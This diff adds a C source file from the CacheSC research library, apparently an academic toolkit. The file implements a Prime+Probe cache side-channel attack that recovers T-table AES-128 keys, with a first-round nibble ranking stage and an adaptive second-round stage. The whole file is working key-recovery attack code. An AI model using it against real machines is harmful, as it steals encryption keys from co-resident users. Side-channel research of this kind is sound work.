@@ -0,0 +1,649 @@
+/*
+ * This file is part of the CacheSC library (https://github.com/Miro-H/CacheSC),
+ * which implements Prime+Probe attacks on virtually and physically indexed
+ * caches.
+ *
+ * Copyright (C) 2020  Miro Haller
+ *
+ * This program is free software: you can redistribute it and/or modify
+ * it under the terms of the GNU General Public License as published by
+ * the Free Software Foundation, either version 3 of the License, or
+ * (at your option) any later version.
+ *
+ * This program is distributed in the hope that it will be useful,
+ * but WITHOUT ANY WARRANTY; without even the implied warranty of
+ * MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+ * GNU General Public License for more details.
+ *
+ * You should have received a copy of the GNU General Public License
+ * along with this program.  If not, see <https://www.gnu.org/licenses/>.
+ *
+ * Contact: miro.haller@alumni.ethz.ch
+ *
+ * Short description of this file:
+ * This file implements the online first-round key nibble recovery for
+ * T-table AES-128 and the second-round stage for the lower key nibbles.
+ */
+
+#include <math.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+
+#include "aes_attack.h"
+
+#define TTABLE_ENTRY_SIZE 4
+#define MAP_KEY_LEN 64
+
+typedef struct nibble_candidate nibble_candidate;
+typedef struct round2_hypothesis round2_hypothesis;
+
+struct nibble_candidate {
+    uint8_t nibble;
+    double score;
+};
+
+struct round2_hypothesis {
+    uint8_t h;
+    double mean;
+    double var;
+};
+
+static const uint8_t aes_sbox[256] = {
+    0x63, 0x7c, 0x77, 0x7b, 0xf2, 0x6b, 0x6f, 0xc5, 0x30, 0x01, 0x67, 0x2b, 0xfe, 0xd7, 0xab, 0x76,
+    0xca, 0x82, 0xc9, 0x7d, 0xfa, 0x59, 0x47, 0xf0, 0xad, 0xd4, 0xa2, 0xaf, 0x9c, 0xa4, 0x72, 0xc0,
+    0xb7, 0xfd, 0x93, 0x26, 0x36, 0x3f, 0xf7, 0xcc, 0x34, 0xa5, 0xe5, 0xf1, 0x71, 0xd8, 0x31, 0x15,
+    0x04, 0xc7, 0x23, 0xc3, 0x18, 0x96, 0x05, 0x9a, 0x07, 0x12, 0x80, 0xe2, 0xeb, 0x27, 0xb2, 0x75,
+    0x09, 0x83, 0x2c, 0x1a, 0x1b, 0x6e, 0x5a, 0xa0, 0x52, 0x3b, 0xd6, 0xb3, 0x29, 0xe3, 0x2f, 0x84,
+    0x53, 0xd1, 0x00, 0xed, 0x20, 0xfc, 0xb1, 0x5b, 0x6a, 0xcb, 0xbe, 0x39, 0x4a, 0x4c, 0x58, 0xcf,
+    0xd0, 0xef, 0xaa, 0xfb, 0x43, 0x4d, 0x33, 0x85, 0x45, 0xf9, 0x02, 0x7f, 0x50, 0x3c, 0x9f, 0xa8,
+    0x51, 0xa3, 0x40, 0x8f, 0x92, 0x9d, 0x38, 0xf5, 0xbc, 0xb6, 0xda, 0x21, 0x10, 0xff, 0xf3, 0xd2,
+    0xcd, 0x0c, 0x13, 0xec, 0x5f, 0x97, 0x44, 0x17, 0xc4, 0xa7, 0x7e, 0x3d, 0x64, 0x5d, 0x19, 0x73,
+    0x60, 0x81, 0x4f, 0xdc, 0x22, 0x2a, 0x90, 0x88, 0x46, 0xee, 0xb8, 0x14, 0xde, 0x5e, 0x0b, 0xdb,
+    0xe0, 0x32, 0x3a, 0x0a, 0x49, 0x06, 0x24, 0x5c, 0xc2, 0xd3, 0xac, 0x62, 0x91, 0x95, 0xe4, 0x79,
+    0xe7, 0xc8, 0x37, 0x6d, 0x8d, 0xd5, 0x4e, 0xa9, 0x6c, 0x56, 0xf4, 0xea, 0x65, 0x7a, 0xae, 0x08,
+    0xba, 0x78, 0x25, 0x2e, 0x1c, 0xa6, 0xb4, 0xc6, 0xe8, 0xdd, 0x74, 0x1f, 0x4b, 0xbd, 0x8b, 0x8a,
+    0x70, 0x3e, 0xb5, 0x66, 0x48, 0x03, 0xf6, 0x0e, 0x61, 0x35, 0x57, 0xb9, 0x86, 0xc1, 0x1d, 0x9e,
+    0xe1, 0xf8, 0x98, 0x11, 0x69, 0xd9, 0x8e, 0x94, 0x9b, 0x1e, 0x87, 0xe9, 0xce, 0x55, 0x28, 0xdf,
+    0x8c, 0xa1, 0x89, 0x0d, 0xbf, 0xe6, 0x42, 0x68, 0x41, 0x99, 0x2d, 0x0f, 0xb0, 0x54, 0xbb, 0x16,
+};
+
+// MixColumns coefficients
+static const uint8_t aes_mix_coef[4][4] = {
+    {2, 3, 1, 1},
+    {1, 2, 3, 1},
+    {1, 1, 2, 3},
+    {3, 1, 1, 2},
+};
+
+// Targeted second-round state bytes and the plaintext bytes they depend on
+// (the diagonal that ShiftRows moves to their column)
+static const uint8_t round2_targets[AES_ROUND2_TARGETS] = {2, 5, 8, 15};
+static const uint8_t round2_diags[AES_ROUND2_TARGETS][AES_TTABLES] = {
+    {0, 5, 10, 15},
+    {4, 9, 14, 3},
+    {8, 13, 2, 7},
+    {12, 1, 6, 11},
+};
+
+// local functions
+double get_nibble_score_var(aes_attack *a, uint32_t byte, uint8_t k_hi);
+int cmp_nibble_candidates(const void *c1, const void *c2);
+uint8_t aes_mul(uint8_t coef, uint8_t y);
+uint8_t predict_round2_block(aes_round2_attack *a, uint32_t target, uint8_t x,
+    uint8_t h);
+uint16_t get_round2_known_blocks(aes_round2_attack *a, uint32_t target, uint8_t x);
+void rank_round2_hypotheses(aes_round2_attack *a, uint32_t target,
+    round2_hypothesis *hyps);
+int cmp_round2_hypotheses(const void *h1, const void *h2);
+
+
+/*
+ * Map the blocks of the tables Te0, ..., Te3 at the given addresses to cache
+ * sets. For tables that are not aligned to cache lines, a block spans two
+ * lines and the line of its middle entry is used.
+ */
+void get_aes_ttable_map(cache_ctx *ctx, void **tables, aes_ttable_map *map) {
+    uint8_t *block_mid;
+
+    for (uint32_t t = 0; t < AES_TTABLES; ++t) {
+        for (uint32_t n = 0; n < AES_TTABLE_BLOCKS; ++n) {
+            block_mid = (uint8_t *) tables[t]
+                        + (n * AES_NIBBLES + AES_NIBBLES / 2) * TTABLE_ENTRY_SIZE;
+            map->sets[t][n] = get_cache_set(ctx, block_mid);
+        }
+    }
+}
+
+/*
+ * Store a table map as text, one line with the block sets per table.
+ * Returns 0 on success, 1 on failure.
+ */
+int save_aes_ttable_map(const char *path, cache_ctx *ctx, aes_ttable_map *map) {
+    FILE *fp = fopen(path, "w");
+    if (!fp)
+        return 1;
+
+    fprintf(fp, "# CacheSC AES T-table map\n");
+    fprintf(fp, "cache_level = %u\n", ctx->cache_level);
+    fprintf(fp, "sets = %u\n", ctx->sets);
+
+    for (uint32_t t = 0; t < AES_TTABLES; ++t) {
+        fprintf(fp, "te%u =", t);
+        for (uint32_t n = 0; n < AES_TTABLE_BLOCKS; ++n)
+            fprintf(fp, " %u", map->sets[t][n]);
+        fputc('\n', fp);
+    }
+
+    return fclose(fp) != 0;
+}
+
+/*
+ * Load a table map stored by save_aes_ttable_map.
+ * Returns 0 on success, 1 on failure, if a table is missing or if the map
+ * was created for another cache.
+ */
+int load_aes_ttable_map(const char *path, cache_ctx *ctx, aes_ttable_map *map) {
+    char line[BUFSIZ];
+    char key[MAP_KEY_LEN];
+    uint32_t t, n, val;
+    int pos, len;
+    bool found[AES_TTABLES] = {false};
+    int ret = 0;
+
+    FILE *fp = fopen(path, "r");
+    if (!fp)
+        return 1;
+
+    while (fgets(line, sizeof(line), fp)) {
+        if (line[0] == '#')
+            continue;
+
+        if (sscanf(line, "te%u =%n", &t, &pos) == 1 && t < AES_TTABLES) {
+            for (n = 0; n < AES_TTABLE_BLOCKS; ++n) {
+                if (sscanf(line + pos, "%u%n", &val, &len) != 1 || val >= ctx->sets)
+                    break;
+                map->sets[t][n] = val;
+                pos += len;
+            }
+            found[t] = (n == AES_TTABLE_BLOCKS);
+        }
+        else if (sscanf(line, "%63s = %u", key, &val) == 2) {
+            if ((!strcmp(key, "cache_level") && val != ctx->cache_level)
+                || (!strcmp(key, "sets") && val != ctx->sets))
+            {
+                ret = 1;
+            }
+        }
+    }
+
+    fclose(fp);
+
+    for (t = 0; t < AES_TTABLES; ++t)
+        ret |= !found[t];
+
+    return ret;
+}
+
+aes_attack *prepare_aes_attack(aes_ttable_map *map) {
+    aes_attack *a = (aes_attack *) calloc(1, sizeof(aes_attack));
+    assert(a);
+
+    memcpy(&a->map, map, sizeof(aes_ttable_map));
+
+    return a;
+}
+
+void release_aes_attack(aes_attack *a) {
+    free(a);
+}
+
+/*
+ * Accumulate the measurements of one encryption of `pt`. `res` holds the
+ * probe time of every cache set, as written by get_msrmts_for_all_set.
+ */
+void update_aes_attack(aes_attack *a, const uint8_t *pt, time_type *res) {
+    uint32_t b, n, p_hi;
+    double t;
+    uint32_t *sets;
+
+    for (b = 0; b < AES_KEY_LEN; ++b) {
+        p_hi = pt[b] >> 4;
+        sets = a->map.sets[b % AES_TTABLES];
+
+        for (n = 0; n < AES_TTABLE_BLOCKS; ++n) {
+            t = res[sets[n]];
+            a->sum[b][p_hi][n]     += t;
+            a->sum_sq[b][p_hi][n]  += t * t;
+        }
+        ++a->cnt[b][p_hi];
+    }
+
+    ++a->samples;
+}
+
+/*
+ * Score all upper key nibble candidates of every byte. The score of candidate
+ * k is the sum over all plaintext nibbles p of the (set bias corrected) mean
+ * probe time of block p ^ k, i.e. the block accessed in the first round if k
+ * is correct. The confidence of the best candidate is its score distance to
+ * the second best in standard deviations of the difference.
+ * Returns the number of bytes that reached AES_ATTACK_CONFIDENCE.
+ */
+uint32_t rank_aes_key_nibbles(aes_attack *a) {
+    uint32_t b, p, n, k, best, second;
+    uint32_t confident = 0;
+    double block_bias[AES_TTABLE_BLOCKS];
+    uint32_t active;
+
+    for (b = 0; b < AES_KEY_LEN; ++b) {
+        // Mean of every block over all plaintext nibbles, which removes the
+        // bias of the individual sets
+        memset(block_bias, 0, sizeof(block_bias));
+        active = 0;
+        for (p = 0; p < AES_NIBBLES; ++p) {
+            if (!a->cnt[b][p])
+                continue;
+
+            for (n = 0; n < AES_TTABLE_BLOCKS; ++n)
+                block_bias[n] += a->sum[b][p][n] / a->cnt[b][p];
+            ++active;
+        }
+
+        for (k = 0; k < AES_NIBBLES; ++k) {
+            a->score[b][k] = 0;
+            for (p = 0; p < AES_NIBBLES; ++p) {
+                if (!a->cnt[b][p])
+                    continue;
+
+                n = p ^ k;
+                a->score[b][k] += a->sum[b][p][n] / a->cnt[b][p]
+                                  - block_bias[n] / active;
+            }
+        }
+
+        best = 0;
+        for (k = 1; k < AES_NIBBLES; ++k) {
+            if (a->score[b][k] > a->score[b][best])
+                best = k;
+        }
+
+        second = (best == 0) ? 1 : 0;
+        for (k = 0; k < AES_NIBBLES; ++k) {
+            if (k != best && a->score[b][k] > a->score[b][second])
+                second = k;
+        }
+
+        a->key_hi[b]        = best;
+        a->confidence[b]    = (a->score[b][best] - a->score[b][second])
+                              / sqrt(get_nibble_score_var(a, b, best)
+                                     + get_nibble_score_var(a, b, second));
+
+        if (a->confidence[b] >= AES_ATTACK_CONFIDENCE)
+            ++confident;
+    }
+
+    return confident;
+}
+
+/*
+ * Re-rank the candidates every AES_ATTACK_CHECK_INTERVAL samples (after
+ * AES_ATTACK_MIN_SAMPLES) and check if all bytes reached the confidence target.
+ */
+bool is_aes_attack_done(aes_attack *a) {
+    if (a->samples < AES_ATTACK_MIN_SAMPLES
+        || a->samples % AES_ATTACK_CHECK_INTERVAL)
+    {
+        return false;
+    }
+
+    return rank_aes_key_nibbles(a) == AES_KEY_LEN;
+}
+
+/*
+ * Store the upper key nibble candidates of a byte in `ranking`, from the most
+ * to the least likely (as of the last ranking).
+ */
+void get_aes_key_nibble_ranking(aes_attack *a, uint32_t byte, uint8_t *ranking) {
+    nibble_candidate candidates[AES_NIBBLES];
+
+    for (uint32_t k = 0; k < AES_NIBBLES; ++k) {
+        candidates[k].nibble    = k;
+        candidates[k].score     = a->score[byte][k];
+    }
+
+    qsort(candidates, AES_NIBBLES, sizeof(nibble_candidate), cmp_nibble_candidates);
+
+    for (uint32_t k = 0; k < AES_NIBBLES; ++k)
+        ranking[k] = candidates[k].nibble;
+}
+
+/*
+ * Fancy print the recovered upper key nibbles and their confidence
+ */
+void print_aes_attack(aes_attack *a) {
+    uint32_t b;
+
+    printf("aes_attack = {\n\tsamples: %lu,\n\tkey_hi:", a->samples);
+    for (b = 0; b < AES_KEY_LEN; ++b)
+        printf(" %x?", a->key_hi[b]);
+
+    printf(",\n\tconfidence:");
+    for (b = 0; b < AES_KEY_LEN; ++b)
+        printf(" %.1f", a->confidence[b]);
+    printf("\n}\n");
+}
+
+/*
+ * Prepare the second-round stage with the table map and the upper key nibbles
+ * of a (finished) first-round attack.
+ */
+aes_round2_attack *prepare_aes_round2_attack(aes_attack *first_round) {
+    aes_round2_attack *a = (aes_round2_attack *) calloc(1, sizeof(aes_round2_attack));
+    assert(a);
+
+    memcpy(&a->map, &first_round->map, sizeof(aes_ttable_map));
+    memcpy(a->key_hi, first_round->key_hi, AES_KEY_LEN);
+    gen_rand_bytes(a->base_pt, AES_KEY_LEN);
+
+    return a;
+}
+
+void release_aes_round2_attack(aes_round2_attack *a) {
+    free(a);
+}
+
+/*
+ * Choose the plaintext of the next sample: the base plaintext, except for
+ * the currently attacked byte of each diagonal. It is random at first and
+ * later chosen such that the leading hypotheses predict as many different
+ * blocks as possible.
+ */
+void get_aes_round2_plaintext(aes_round2_attack *a, uint8_t *pt) {
+    uint32_t e, i, l, x, x_off, best_x, distinct, best_distinct;
+    uint16_t blocks;
+
+    memcpy(pt, a->base_pt, AES_KEY_LEN);
+
+    for (e = 0; e < AES_ROUND2_TARGETS; ++e) {
+        if (a->step[e] == AES_TTABLES)
+            continue;
+
+        i = round2_diags[e][a->step[e]];
+
+        if (a->cnt[e] < AES_ROUND2_RANDOM_SAMPLES) {
+            pt[i] = rand() % 256;
+            continue;
+        }
+
+        // Start at a random offset to break ties randomly
+        x_off           = rand() % 256;
+        best_x          = x_off;
+        best_distinct   = 0;
+        for (x = 0; x < 256; ++x) {
+            blocks = 0;
+            for (l = 0; l < AES_ROUND2_LEADERS; ++l) {
+                blocks |= 1 << predict_round2_block(a, e, (x + x_off) % 256,
+                                                    a->leaders[e][l]);
+            }
+
+            distinct = __builtin_popcount(blocks);
+            if (distinct > best_distinct) {
+                best_distinct   = distinct;
+                best_x          = (x + x_off) % 256;
+            }
+        }
+
+        pt[i] = best_x;
+    }
+}
+
+/*
+ * Accumulate the measurements of one encryption of a plaintext chosen by
+ * get_aes_round2_plaintext, per value of the attacked plaintext byte.
+ */
+void update_aes_round2_attack(aes_round2_attack *a, const uint8_t *pt,
+    time_type *res)
+{
+    uint32_t e, n, x;
+    double t;
+    uint32_t *sets;
+
+    for (e = 0; e < AES_ROUND2_TARGETS; ++e) {
+        if (a->step[e] == AES_TTABLES)
+            continue;
+
+        x       = pt[round2_diags[e][a->step[e]]];
+        sets    = a->map.sets[round2_targets[e] % AES_TTABLES];
+
+        for (n = 0; n < AES_TTABLE_BLOCKS; ++n) {
+            t = res[sets[n]];
+            a->sum[e][x][n]     += t;
+            a->sum_sq[e][x][n]  += t * t;
+        }
+        ++a->x_cnt[e][x];
+        ++a->cnt[e];
+    }
+
+    ++a->samples;
+}
+
+/*
+ * Every AES_ATTACK_CHECK_INTERVAL samples, rank the hypotheses of each
+ * diagonal, update the leaders for the plaintext choice and accept the best
+ * hypothesis if it reached the confidence target, then move on to the next
+ * byte of the diagonal.
+ * Returns true if all lower key nibbles are recovered.
+ */
+bool is_aes_round2_attack_done(aes_round2_attack *a) {
+    uint32_t e, i, l;
+    bool done = true;
+    round2_hypothesis hyps[AES_ROUND2_HYPOTHESES];
+
+    if (a->samples % AES_ATTACK_CHECK_INTERVAL)
+        return false;
+
+    for (e = 0; e < AES_ROUND2_TARGETS; ++e) {
+        if (a->step[e] == AES_TTABLES)
+            continue;
+
+        done = false;
+        if (a->cnt[e] < AES_ROUND2_RANDOM_SAMPLES)
+            continue;
+
+        rank_round2_hypotheses(a, e, hyps);
+        for (l = 0; l < AES_ROUND2_LEADERS; ++l)
+            a->leaders[e][l] = hyps[l].h;
+
+        if (a->cnt[e] < AES_ATTACK_MIN_SAMPLES)
+            continue;
+
+        i                   = round2_diags[e][a->step[e]];
+        a->key_lo[i]        = hyps[0].h >> 4;
+        a->confidence[i]    = (hyps[0].mean - hyps[1].mean)
+                              / sqrt(hyps[0].var + hyps[1].var);
+
+        if (a->confidence[i] >= AES_ATTACK_CONFIDENCE) {
+            ++a->step[e];
+            a->cnt[e] = 0;
+            memset(a->x_cnt[e], 0, sizeof(a->x_cnt[e]));
+            memset(a->sum[e], 0, sizeof(a->sum[e]));
+            memset(a->sum_sq[e], 0, sizeof(a->sum_sq[e]));
+        }
+    }
+
+    return done;
+}
+
+/*
+ * Combine the upper and (best so far) lower key nibbles to the full key
+ */
+void get_aes_round2_key(aes_round2_attack *a, uint8_t *key) {
+    for (uint32_t b = 0; b < AES_KEY_LEN; ++b)
+        key[b] = (a->key_hi[b] << 4) | a->key_lo[b];
+}
+
+/*
+ * Fancy print the recovered key and the confidence of the lower nibbles
+ */
+void print_aes_round2_attack(aes_round2_attack *a) {
+    uint32_t b;
+    uint8_t key[AES_KEY_LEN];
+
+    get_aes_round2_key(a, key);
+
+    printf("aes_round2_attack = {\n\tsamples: %lu,\n\tkey: ", a->samples);
+    for (b = 0; b < AES_KEY_LEN; ++b)
+        printf("%02x", key[b]);
+
+    printf(",\n\tconfidence:");
+    for (b = 0; b < AES_KEY_LEN; ++b)
+        printf(" %.1f", a->confidence[b]);
+    printf("\n}\n");
+}
+
+/*
+ * Variance of the score estimate of a candidate (sum of the variances of the
+ * block means it consists of)
+ */
+double get_nibble_score_var(aes_attack *a, uint32_t byte, uint8_t k_hi) {
+    uint32_t p, n;
+    double mean, var = 0;
+
+    for (p = 0; p < AES_NIBBLES; ++p) {
+        if (a->cnt[byte][p] < 2)
+            continue;
+
+        n       = p ^ k_hi;
+        mean    = a->sum[byte][p][n] / a->cnt[byte][p];
+        var    += (a->sum_sq[byte][p][n] / a->cnt[byte][p] - mean * mean)
+                  / a->cnt[byte][p];
+    }
+
+    // Timings are integers, so assume at least the quantisation noise of 1/12
+    return var + 1.0 / 12 / a->samples;
+}
+
+int cmp_nibble_candidates(const void *c1, const void *c2) {
+    double diff = ((nibble_candidate *) c2)->score - ((nibble_candidate *) c1)->score;
+
+    return (diff > 0) - (diff < 0);
+}
+
+/*
+ * Multiplication with a MixColumns coefficient (1, 2 or 3) in GF(2^8)
+ */
+uint8_t aes_mul(uint8_t coef, uint8_t y) {
+    uint8_t y2 = (y << 1) ^ ((y & 0x80) ? 0x1b : 0);
+
+    if (coef == 1)
+        return y;
+    else if (coef == 2)
+        return y2;
+    return y2 ^ y;
+}
+
+/*
+ * Block of table Te(t % 4) that the second-round lookup of target t accesses
+ * for plaintext byte x (in the currently attacked position) under hypothesis h
+ */
+uint8_t predict_round2_block(aes_round2_attack *a, uint32_t target, uint8_t x,
+    uint8_t h)
+{
+    uint32_t i      = round2_diags[target][a->step[target]];
+    uint8_t coef    = aes_mix_coef[round2_targets[target] % 4][i % 4];
+    uint8_t v       = (((x >> 4) ^ a->key_hi[i]) << 4) | ((x & 0xf) ^ (h >> 4));
+
+    return (aes_mul(coef, aes_sbox[v]) >> 4) ^ (h & 0xf);
+}
+
+/*
+ * First-round accesses to the target table for attacked plaintext byte x.
+ * They are known from the upper key nibbles and carry no information on the
+ * hypotheses.
+ */
+uint16_t get_round2_known_blocks(aes_round2_attack *a, uint32_t target, uint8_t x) {
+    uint32_t i      = round2_diags[target][a->step[target]];
+    uint32_t tbl    = round2_targets[target] % AES_TTABLES;
+    uint16_t blocks = 0;
+    uint8_t p;
+
+    for (uint32_t j = tbl; j < AES_KEY_LEN; j += AES_TTABLES) {
+        p       = (j == i) ? x : a->base_pt[j];
+        blocks |= 1 << ((p >> 4) ^ a->key_hi[j]);
+    }
+
+    return blocks;
+}
+
+/*
+ * Sort the hypotheses of a diagonal by their score, best first. The score of
+ * a hypothesis is the mean probe time of the blocks it predicts, relative to
+ * the mean of each block over all samples (which removes the set bias and
+ * accesses that do not depend on the attacked byte). First-round accesses
+ * are skipped.
+ */
+void rank_round2_hypotheses(aes_round2_attack *a, uint32_t target,
+    round2_hypothesis *hyps)
+{
+    uint32_t x, n, h;
+    uint16_t known_blocks[256];
+    double block_mean[AES_TTABLE_BLOCKS];
+    uint64_t block_cnt[AES_TTABLE_BLOCKS];
+    uint64_t cnt;
+    double sum, sum_sq, m;
+
+    memset(block_mean, 0, sizeof(block_mean));
+    memset(block_cnt, 0, sizeof(block_cnt));
+
+    for (x = 0; x < 256; ++x) {
+        known_blocks[x] = get_round2_known_blocks(a, target, x);
+
+        for (n = 0; n < AES_TTABLE_BLOCKS; ++n) {
+            if (!((known_blocks[x] >> n) & 1)) {
+                block_mean[n]  += a->sum[target][x][n];
+                block_cnt[n]   += a->x_cnt[target][x];
+            }
+        }
+    }
+
+    for (n = 0; n < AES_TTABLE_BLOCKS; ++n)
+        block_mean[n] = block_cnt[n] ? block_mean[n] / block_cnt[n] : 0;
+
+    for (h = 0; h < AES_ROUND2_HYPOTHESES; ++h) {
+        cnt     = 0;
+        sum     = 0;
+        sum_sq  = 0;
+
+        for (x = 0; x < 256; ++x) {
+            if (!a->x_cnt[target][x])
+                continue;
+
+            n = predict_round2_block(a, target, x, h);
+            if ((known_blocks[x] >> n) & 1)
+                continue;
+
+            // Sums of (t - block_mean[n]) and its square
+            m        = block_mean[n];
+            cnt     += a->x_cnt[target][x];
+            sum     += a->sum[target][x][n] - a->x_cnt[target][x] * m;
+            sum_sq  += a->sum_sq[target][x][n] - 2 * m * a->sum[target][x][n]
+                       + a->x_cnt[target][x] * m * m;
+        }
+
+        hyps[h].h       = h;
+        hyps[h].mean    = cnt ? sum / cnt : 0;
+        // Variance of the mean, with at least the quantisation noise of 1/12
+        hyps[h].var     = cnt ? (sum_sq / cnt - hyps[h].mean * hyps[h].mean
+                                 + 1.0 / 12) / cnt : 1;
+    }
+
+    qsort(hyps, AES_ROUND2_HYPOTHESES, sizeof(round2_hypothesis),
+          cmp_round2_hypotheses);
+}
+
+int cmp_round2_hypotheses(const void *h1, const void *h2) {
+    double diff = ((round2_hypothesis *) h2)->mean - ((round2_hypothesis *) h1)->mean;
+
+    return (diff > 0) - (diff < 0);
+}